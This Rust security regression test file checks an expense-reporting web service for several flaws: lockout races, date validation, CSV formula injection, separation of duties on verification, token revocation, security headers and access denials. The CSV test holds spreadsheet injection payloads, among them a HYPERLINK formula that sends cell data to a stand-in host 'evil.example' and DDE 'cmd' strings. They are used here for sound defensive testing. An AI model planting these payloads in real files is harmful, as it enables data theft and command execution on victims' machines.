//! The defects a black-box attack found, each pinned: sign-in cannot out-race the lockout, no date
//! can block a project's documents, no exported cell is a live formula, whoever changed an
//! expense does not verify it, headers and answers leak nothing.

use serde_json::json;
use tokio::task::JoinSet;

use crate::common::{TestApp, PASSWORD};
use crate::on_both_backends;

/// Sends `passwords` to `POST /auth/token` for `email` all at once, spread over `bases` (several
/// instances on one database); returns how many answers had each status.
async fn parallel_sign_ins(
    bases: &[String],
    email: &str,
    passwords: Vec<&'static str>,
) -> std::collections::BTreeMap<u16, usize> {
    let client = reqwest::Client::new();
    let mut attempts = JoinSet::new();
    for (i, password) in passwords.into_iter().enumerate() {
        let url = format!("{}/api/v1/auth/token", bases[i % bases.len()]);
        let request = client
            .post(url)
            .json(&json!({"email": email, "password": password}));
        attempts.spawn(async move { request.send().await.expect("sign-in").status().as_u16() });
    }
    let mut counts = std::collections::BTreeMap::new();
    while let Some(status) = attempts.join_next().await {
        *counts.entry(status.expect("join")).or_default() += 1;
    }
    counts
}

async fn parallel_guesses_are_counted_before_any_password_is_verified(app: TestApp) {
    app.create(
        "/api/v1/users",
        &json!({"email": "mario@prova.it", "password": PASSWORD}),
    )
    .await;
    let second = app.second_instance().await;
    let bases = [app.base.clone(), second.base.clone()];
    // 150 wrong passwords at once through two instances: no more than five are verified (401),
    // the rest refused unverified (429; or 503 if a busy machine's pool ran out of time first).
    let wrong = parallel_sign_ins(&bases, "mario@prova.it", vec!["sbagliata"; 150]).await;
    let count = |counts: &std::collections::BTreeMap<u16, usize>, status| {
        counts.get(&status).copied().unwrap_or(0)
    };
    let verified = count(&wrong, 401);
    assert!(verified <= 5, "{wrong:?}");
    assert_eq!(
        verified + count(&wrong, 429) + count(&wrong, 503),
        150,
        "{wrong:?}"
    );
    assert!(count(&wrong, 429) > 0, "{wrong:?}");
    // Then the right password in the middle of 50 more: none is verified, none signs in.
    let mut passwords = vec!["sbagliata"; 50];
    passwords[1] = PASSWORD;
    let late = parallel_sign_ins(&bases, "mario@prova.it", passwords).await;
    assert_eq!(count(&late, 429) + count(&late, 503), 50, "{late:?}");
}

async fn implausible_dates_are_refused_and_none_can_block_a_document(app: TestApp) {
    let seed = app.seed().await;
    let before = app.db.fingerprint().await;
    for (field, value) in [
        ("document_date", "0000-01-01"),
        ("document_date", "0001-01-01"),
        ("document_date", "1800-01-01"),
        ("document_date", "1899-12-30"),
        ("payment_order_date", "1989-12-31"),
        ("payment_date", "2100-01-01"),
    ] {
        let mut body = seed.expense("F1", "100.00", "22.00");
        body[field] = json!(value);
        let answer = app.post(&seed.expenses_path(), &body).await;
        assert_eq!(answer.status().as_u16(), 422, "{field} = {value}");
        let problem: serde_json::Value = answer.json().await.expect("problem");
        let error = &problem["errors"][0];
        assert_eq!(
            (error["field"].as_str(), error["code"].as_str()),
            (Some(field), Some("date_out_of_range")),
            "{problem}"
        );
        assert!(
            error["message"]
                .as_str()
                .unwrap_or("")
                .contains("01/01/1990"),
            "{problem}"
        );
    }
    assert_eq!(
        app.db.fingerprint().await,
        before,
        "a refused date wrote something"
    );
    // The bounds themselves are accepted.
    let mut body = seed.expense("F2", "100.00", "22.00");
    body["document_date"] = json!("1990-01-01");
    body["payment_date"] = json!("2099-12-31");
    app.create(&seed.expenses_path(), &body).await;
    // A CSV row with such a date is refused with its line and column.
    let csv = "Ente;Categoria;Fornitore;Numero fattura;Data fattura;Imponibile;IVA\n\
               Unione delle Terre d'Argine;design_training;Alfa srl;7;31/12/1899;100,00;22,00\n";
    let answer = app
        .post_raw(
            &format!("/api/v1/projects/{}/imports/expenses.csv", seed.project_id),
            "text/csv",
            csv,
        )
        .await;
    assert_eq!(answer.status().as_u16(), 422);
    let text = answer.text().await.unwrap_or_default();
    assert!(text.contains("date_out_of_range"), "{text}");

    // A date stored before these checks existed still cannot make a document fail: the workbook
    // writes it as text.
    app.db
        .execute("UPDATE expenses SET document_date = '1899-12-30'")
        .await;
    app.db
        .execute("UPDATE projects SET expenses_revision = expenses_revision + 1")
        .await;
    for document in ["rendiconto.xlsx", "rendiconto.pdf"] {
        let answer = app
            .get(&format!(
                "/api/v1/projects/{}/reports/{document}",
                seed.project_id
            ))
            .await;
        assert_eq!(answer.status().as_u16(), 200, "{document}");
    }
}

/// A browser session for `email`: its cookie and its CSRF token.
pub(crate) async fn session(app: &TestApp, email: &str) -> (String, String) {
    let response = app
        .anon
        .post(app.url("/api/v1/auth/session"))
        .json(&json!({"email": email, "password": PASSWORD}))
        .send()
        .await
        .expect("session");
    assert_eq!(response.status().as_u16(), 200);
    let cookie = response.headers()["set-cookie"]
        .to_str()
        .expect("cookie")
        .split(';')
        .next()
        .expect("pair")
        .to_owned();
    let body: serde_json::Value = response.json().await.expect("json");
    (
        cookie,
        body["csrf_token"].as_str().expect("csrf").to_owned(),
    )
}

async fn session_cookie(app: &TestApp, email: &str) -> String {
    session(app, email).await.0
}

/// A draft expense of the seed's first entity; its id.
async fn one_expense(app: &TestApp, seed: &crate::common::Seed, number: &str) -> String {
    let e = app
        .create(
            &seed.expenses_path(),
            &seed.expense(number, "100.00", "22.00"),
        )
        .await;
    e["id"].as_str().expect("id").to_owned()
}

async fn exported_csv_carries_no_live_formula(app: TestApp) {
    let seed = app.seed().await;
    let attacks = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Clicca\")",
        "+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "-2+3+cmd|' /C calc'!A0",
    ];
    let mut csv =
        String::from("Ente;Categoria;Fornitore;Numero fattura;Data fattura;Imponibile;IVA\n");
    for (i, name) in attacks.iter().enumerate() {
        let quoted = name.replace('"', "\"\"");
        csv.push_str(&format!(
            "Unione delle Terre d'Argine;design_training;\"{quoted}\";{i};15/10/2020;100,00;22,00\n"
        ));
    }
    let path = format!("/api/v1/projects/{}/imports/expenses.csv", seed.project_id);
    let answer = app.post_raw(&path, "text/csv", csv).await;
    assert_eq!(
        answer.status().as_u16(),
        201,
        "{}",
        answer.text().await.unwrap_or_default()
    );
    // A credit note keeps its negative amount as a number.
    let mut credit = seed.expense("NC 1", "10.00", "2.20");
    credit["document_type"] = json!("credit_note");
    app.create(&seed.expenses_path(), &credit).await;
    // A tab before a formula is kept, not trimmed away into a live formula.
    let tabbed = "Ente;Categoria;Fornitore;Numero fattura;Data fattura;Imponibile;IVA\n\
                  Unione delle Terre d'Argine;design_training;\t=1+1;99;15/10/2020;100,00;22,00\n";
    let answer = app.post_raw(&path, "text/csv", tabbed).await;
    assert_eq!(answer.status().as_u16(), 201);

    let cookie = session_cookie(&app, crate::common::ADMIN_EMAIL).await;
    let export = app
        .anon
        .get(app.url(&format!("/progetti/{}/spese.csv", seed.project_id)))
        .header("cookie", cookie)
        .send()
        .await
        .expect("export");
    assert_eq!(export.status().as_u16(), 200);
    let text = export.text().await.expect("csv");
    let mut reader = csv_reader(text.trim_start_matches('\u{feff}'));
    let mut suppliers = Vec::new();
    let mut claimed = Vec::new();
    for record in reader.records() {
        let record = record.expect("record");
        for cell in record.iter() {
            let live = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.contains(|c: char| c.is_alphabetic()));
            assert!(!live, "live formula exported: {cell:?}");
        }
        suppliers.push(record[3].to_owned());
        claimed.push(record[11].to_owned());
    }
    for name in attacks.iter().chain(&["\t=1+1"]) {
        assert!(suppliers.contains(&format!("'{name}")), "{suppliers:?}");
    }
    assert!(claimed.contains(&"-12,20".to_owned()), "{claimed:?}");
}

fn csv_reader(text: &str) -> ::csv::Reader<&[u8]> {
    ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.as_bytes())
}

async fn status_of(request: reqwest::RequestBuilder) -> (u16, serde_json::Value) {
    let response = request.send().await.expect("request");
    let status = response.status().as_u16();
    let text = response.text().await.unwrap_or_default();
    (status, serde_json::from_str(&text).unwrap_or(json!(text)))
}

async fn whoever_recorded_or_changed_an_expense_does_not_verify_it(app: TestApp) {
    let seed = app.seed().await;
    let p = &seed.project_id;
    app.add_member("resp@prova.it", p, "project_manager", &[&seed.entities[0]])
        .await;
    app.add_member("fin1@prova.it", p, "finance_officer", &[])
        .await;
    app.add_member("fin2@prova.it", p, "finance_officer", &[])
        .await;
    let manager = app.sign_in("resp@prova.it").await;
    let fin1 = app.sign_in("fin1@prova.it").await;
    let fin2 = app.sign_in("fin2@prova.it").await;
    let step = |client: &reqwest::Client, id: &str, step: &str| {
        client.post(app.url(&format!("/api/v1/expenses/{id}/{step}")))
    };

    // Recorded by the manager, its amount then corrected by a finance officer: that officer may
    // not verify it, a colleague may.
    let (status, e) = status_of(
        manager
            .post(app.url(&seed.expenses_path()))
            .json(&seed.expense("S1", "100.00", "22.00")),
    )
    .await;
    assert_eq!(status, 201);
    let id = e["id"].as_str().expect("id").to_owned();
    assert_eq!(status_of(step(&manager, &id, "ready")).await.0, 200);
    let current = app.get(&format!("/api/v1/expenses/{id}")).await;
    let etag = current.headers()["etag"].to_str().expect("etag").to_owned();
    let (status, _) = status_of(
        fin1.patch(app.url(&format!("/api/v1/expenses/{id}")))
            .header("content-type", "application/merge-patch+json")
            .header("if-match", etag)
            .body(
                json!({"net_amount": "90.00", "vat_amount": "19.80", "claimed_amount": "109.80"})
                    .to_string(),
            ),
    )
    .await;
    assert_eq!(status, 200);
    let (status, problem) = status_of(step(&fin1, &id, "verify")).await;
    assert_eq!(status, 403, "{problem}");
    assert!(
        problem["detail"]
            .as_str()
            .unwrap_or("")
            .contains("modificato"),
        "{problem}"
    );
    assert_eq!(status_of(step(&fin2, &id, "verify")).await.0, 200);

    // A change of the description alone does not make its author a changer of the figure.
    let (_, e) = status_of(
        manager
            .post(app.url(&seed.expenses_path()))
            .json(&seed.expense("S2", "100.00", "22.00")),
    )
    .await;
    let id = e["id"].as_str().expect("id").to_owned();
    let current = app.get(&format!("/api/v1/expenses/{id}")).await;
    let etag = current.headers()["etag"].to_str().expect("etag").to_owned();
    let (status, _) = status_of(
        fin1.patch(app.url(&format!("/api/v1/expenses/{id}")))
            .header("content-type", "application/merge-patch+json")
            .header("if-match", etag)
            .body(json!({"description": "Formazione, seconda edizione"}).to_string()),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(status_of(step(&manager, &id, "ready")).await.0, 200);
    assert_eq!(status_of(step(&fin1, &id, "verify")).await.0, 200);

    // The admin is held to it too.
    let e = app
        .create(
            &seed.expenses_path(),
            &seed.expense("S3", "100.00", "22.00"),
        )
        .await;
    let id = e["id"].as_str().expect("id").to_owned();
    assert_eq!(status_of(step(&app.client, &id, "ready")).await.0, 200);
    let (status, problem) = status_of(step(&app.client, &id, "verify")).await;
    assert_eq!(status, 403, "{problem}");
    assert_eq!(status_of(step(&fin1, &id, "verify")).await.0, 200);
}

async fn a_password_change_revokes_the_api_tokens(app: TestApp) {
    app.create(
        "/api/v1/users",
        &json!({"email": "mario@prova.it", "password": PASSWORD}),
    )
    .await;
    let first = app.sign_in("mario@prova.it").await;
    let second = app.sign_in("mario@prova.it").await;
    assert_eq!(
        status_of(first.get(app.url("/api/v1/auth/me"))).await.0,
        200
    );
    let (status, _) = status_of(first.post(app.url("/api/v1/auth/password")).json(
        &json!({"current_password": PASSWORD, "new_password": "una password nuova e lunga"}),
    ))
    .await;
    assert_eq!(status, 204);
    for client in [&first, &second] {
        assert_eq!(
            status_of(client.get(app.url("/api/v1/auth/me"))).await.0,
            401
        );
    }
}

async fn pages_carry_a_strict_policy_and_no_inline_script(app: TestApp) {
    let seed = app.seed().await;
    let expense = one_expense(&app, &seed, "H1").await;
    let cookie = session_cookie(&app, crate::common::ADMIN_EMAIL).await;
    let p = &seed.project_id;
    for path in [
        "/progetti".to_owned(),
        format!("/progetti/{p}"),
        format!("/progetti/{p}/spese"),
        format!("/spese/{expense}"),
        format!("/progetti/{p}/finanziamento"),
        "/progetti/999999".to_owned(),
    ] {
        let answer = app
            .anon
            .get(app.url(&path))
            .header("cookie", &cookie)
            .send()
            .await
            .expect("page");
        let headers = answer.headers().clone();
        let header = |name: &str| {
            headers
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .to_owned()
        };
        let policy = header("content-security-policy");
        assert!(
            policy.contains("frame-ancestors 'none'"),
            "{path}: {policy}"
        );
        assert!(policy.contains("script-src 'self'"), "{path}: {policy}");
        assert!(!policy.contains("unsafe-inline"), "{path}: {policy}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
        assert_eq!(header("cache-control"), "no-store", "{path}");
        let html = answer.text().await.expect("html");
        assert!(!html.contains("javascript:"), "{path}");
        for script in html.split("<script").skip(1) {
            let tag = script.split('>').next().unwrap_or("");
            assert!(
                tag.contains("src=\"/static/"),
                "{path}: inline script {tag}"
            );
        }
        let lower = html.to_lowercase();
        for handler in [
            " onclick=",
            " onload=",
            " onsubmit=",
            " onchange=",
            " onerror=",
        ] {
            assert!(!lower.contains(handler), "{path}: inline handler {handler}");
        }
    }
    // The API's answers to a signed-in caller are not cached either.
    let answer = app.get(&format!("/api/v1/projects/{p}")).await;
    assert_eq!(answer.headers()["cache-control"], "no-store");
    assert_eq!(answer.headers()["x-content-type-options"], "nosniff");
}

async fn workspace_uploads_over_the_limit_answer_413(app: TestApp) {
    let seed = app.seed().await;
    let expense = one_expense(&app, &seed, "U1").await;
    let (cookie, csrf) = session(&app, crate::common::ADMIN_EMAIL).await;
    let before = app.db.scalar("SELECT COUNT(*) FROM attachments").await;
    let huge = vec![b'%'; 21 * 1024 * 1024];
    let form = reqwest::multipart::Form::new()
        .text("_csrf", csrf)
        .text("kind", "invoice")
        .part(
            "file",
            reqwest::multipart::Part::bytes(huge).file_name("enorme.pdf"),
        );
    let answer = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client")
        .post(app.url(&format!("/spese/{expense}/allegati")))
        .header("cookie", cookie)
        .multipart(form)
        .send()
        .await
        .expect("upload");
    assert_eq!(answer.status().as_u16(), 413);
    assert_eq!(
        app.db.scalar("SELECT COUNT(*) FROM attachments").await,
        before
    );
}

async fn outsiders_learn_nothing_and_missing_objects_are_404(app: TestApp) {
    let seed = app.seed().await;
    let expense = one_expense(&app, &seed, "O1").await;
    // A reader of another project.
    let other = app
        .create(
            "/api/v1/projects",
            &json!({"call_id": seed.call_id, "title": "Altro", "lead_entity": "Altro ente",
                "granted_contribution": "1000.00", "budget": [{"category": "design_training", "amount": "1000.00"}]}),
        )
        .await;
    let other = other["id"].as_str().expect("id").to_owned();
    app.add_member("estraneo@prova.it", &other, "viewer", &[])
        .await;
    let outsider = app.sign_in("estraneo@prova.it").await;
    let p = &seed.project_id;
    let before = app.db.fingerprint().await;
    let requests = [
        // No If-Match, a body that is not even JSON: still 403, not 428 or 400.
        outsider
            .patch(app.url(&format!("/api/v1/expenses/{expense}")))
            .header("content-type", "application/merge-patch+json")
            .body("{non json"),
        outsider
            .post(app.url(&format!("/api/v1/projects/{p}/expenses")))
            .header("content-type", "application/json")
            .body("{\"net_amount\": \"abc\"}"),
        outsider
            .patch(app.url(&format!("/api/v1/projects/{p}")))
            .header("content-type", "application/merge-patch+json")
            .body("{}"),
        outsider
            .patch(app.url(&format!("/api/v1/projects/{p}/variations/1")))
            .header("content-type", "application/merge-patch+json")
            .body("{}"),
        outsider.post(app.url(&format!("/api/v1/expenses/{expense}/verify"))),
        outsider
            .delete(app.url(&format!("/api/v1/expenses/{expense}")))
            .header("if-match", "\"v99\""),
        outsider.get(app.url(&format!("/api/v1/projects/{p}/summary?as_of=nonsense"))),
    ];
    for request in requests {
        let (status, problem) = status_of(request).await;
        assert_eq!(status, 403, "{problem}");
    }
    assert_eq!(app.db.fingerprint().await, before);
    // A PATCH on something that does not exist is a 404, with or without If-Match.
    for path in [
        format!("/api/v1/projects/{p}/variations/99999"),
        format!("/api/v1/projects/{p}/milestones/99999"),
        format!("/api/v1/projects/{p}/narrative/99999"),
        format!("/api/v1/projects/{p}/indicators/99999"),
        "/api/v1/expenses/99999".to_owned(),
        "/api/v1/projects/99999".to_owned(),
    ] {
        for etag in [None, Some("\"v1\"")] {
            let answer = app.patch(&path, etag, &json!({"status": "approved"})).await;
            assert_eq!(answer.status().as_u16(), 404, "PATCH {path} with {etag:?}");
        }
    }
}

on_both_backends!(
    parallel_guesses_are_counted_before_any_password_is_verified,
    implausible_dates_are_refused_and_none_can_block_a_document,
    exported_csv_carries_no_live_formula,
    whoever_recorded_or_changed_an_expense_does_not_verify_it,
    a_password_change_revokes_the_api_tokens,
    pages_carry_a_strict_policy_and_no_inline_script,
    workspace_uploads_over_the_limit_answer_413,
    outsiders_learn_nothing_and_missing_objects_are_404,
);
